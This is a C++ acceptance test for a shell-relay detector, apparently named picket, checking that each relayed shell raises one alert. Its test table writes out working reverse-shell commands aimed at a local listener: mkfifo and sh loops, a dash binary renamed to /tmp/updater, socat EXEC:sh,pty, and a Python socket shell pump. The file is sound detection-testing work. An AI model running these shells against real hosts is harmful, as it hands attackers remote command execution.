// DE4: a shell whose input and output reach an outbound connection through other processes, or by
// descriptors that nobody duplicated, is one alert as well; what looks alike is none.
#include "tests/acceptance/shell_test.h"

namespace picket::test {
namespace {

struct Shell {
  const char* name;
  std::vector<std::string> command;  // PORT stands for the listener's port
  const char* rule = "relayed_shell";
};

const std::vector<Shell>& shells() {
  static const std::vector<Shell> all = {
      {"FIFO and pipe",
       {"sh", "-c", "mkfifo /tmp/f1; sh </tmp/f1 | relayed_shell client PORT >/tmp/f1"}},
      {"FIFO behind cat",
       {"sh", "-c",
        "mkfifo /tmp/f2; cat /tmp/f2 | sh -i 2>&1 | relayed_shell client PORT >/tmp/f2"}},
      {"renamed shell on a FIFO",
       {"sh", "-c",
        "cp /usr/bin/dash /tmp/updater; mkfifo /tmp/f3;"
        "/tmp/updater </tmp/f3 | relayed_shell client PORT >/tmp/f3"}},
      {"pump over pipes", {"relayed_shell", "pipes", "PORT"}},
      {"pump over a socketpair", {"relayed_shell", "socketpair", "PORT"}},
      {"pseudo terminal", {"relayed_shell", "pty", "PORT"}},
      {"connection passed to the pump", {"relayed_shell", "passed", "PORT"}},
      {"unix socket between", {"relayed_shell", "unix", "PORT"}},
      {"socat with a pseudo terminal", {"socat", "TCP:127.0.0.1:PORT", "EXEC:sh,pty"}},
      {"socat with pipes", {"socat", "TCP:127.0.0.1:PORT", "EXEC:sh,pipes"}},
      {"python, pipes and threads",
       {"python3", "-c",
        "import socket, subprocess, threading, os\n"
        "s = socket.create_connection(('127.0.0.1', PORT))\n"
        "p = subprocess.Popen(['sh'], stdin=subprocess.PIPE, stdout=subprocess.PIPE, bufsize=0)\n"
        "def feed():\n"
        "  while True:\n"
        "    data = s.recv(4096)\n"
        "    if not data: break\n"
        "    p.stdin.write(data)\n"
        "threading.Thread(target=feed, daemon=True).start()\n"
        "while True:\n"
        "  data = os.read(p.stdout.fileno(), 4096)\n"
        "  if not data: break\n"
        "  s.sendall(data)\n"}},
      {"connection that arrives as descriptors 0 and 1",
       {"relayed_shell", "inherited", "PORT"},
       "reverse_shell"},
  };
  return all;
}

constexpr int kFirstPort = 4601;

std::vector<std::string> with_port(std::vector<std::string> command, int port) {
  for (std::string& word : command)
    for (size_t at; (at = word.find("PORT")) != std::string::npos;)
      word.replace(at, 4, std::to_string(port));
  return command;
}

// The relay's alert says the port in its text, the shell's own descriptors in a field.
bool is_about(const Alert& alert, int port) {
  return alert["output"].get<std::string>().find(fmt::format(" port {}", port)) !=
         std::string::npos;
}

class DE4 : public ShellTest {
 protected:
  void SetUp() override {
    AcceptanceTest::SetUp();
    if (IsSkipped() || HasFatalFailure()) return;
    deploy({.recording = recording_as("relayed_shell")});
    if (HasFatalFailure()) return;
    container_ = make_container({.image = "tools"});
    ASSERT_TRUE(container_);
    ASSERT_EQ(run({"listener", std::to_string(kFirstPort), std::to_string(shells().size())}), 0);
  }
};

TEST_F(DE4, EveryRelayedShellIsOneAlert) {
  for (size_t i = 0; i < shells().size(); ++i) {
    const int port = kFirstPort + static_cast<int>(i);
    auto ended = container_->run(with_port(shells()[i].command, port));
    ASSERT_TRUE(ended.ok()) << shells()[i].name << ": " << ended.status();
    EXPECT_TRUE(proof_came(port)) << shells()[i].name << " gave no shell: " << ended->out;
  }
  const auto alerts = accusations(alerts_so_far(*container_));
  for (size_t i = 0; i < shells().size(); ++i) {
    std::vector<Alert> own;
    for (const Alert& alert : by_rule(alerts, shells()[i].rule))
      if (is_about(alert, kFirstPort + static_cast<int>(i))) own.push_back(alert);
    EXPECT_EQ(own.size(), 1u) << shells()[i].name << ": " << Alert(own).dump(1);
    for (const Alert& alert : own) {
      expect_identity(alert, *container_);
      EXPECT_THAT(alert["process"]["exe"].get<std::string>(),
                  ::testing::AnyOf(::testing::EndsWith("/dash"), "/tmp/updater"))
          << shells()[i].name;
    }
  }
  // Nothing else is accused: not the listener, not the relays, not what the shells ran.
  EXPECT_EQ(alerts.size(), shells().size()) << Alert(alerts).dump(1);
}

}  // namespace
}  // namespace picket::test
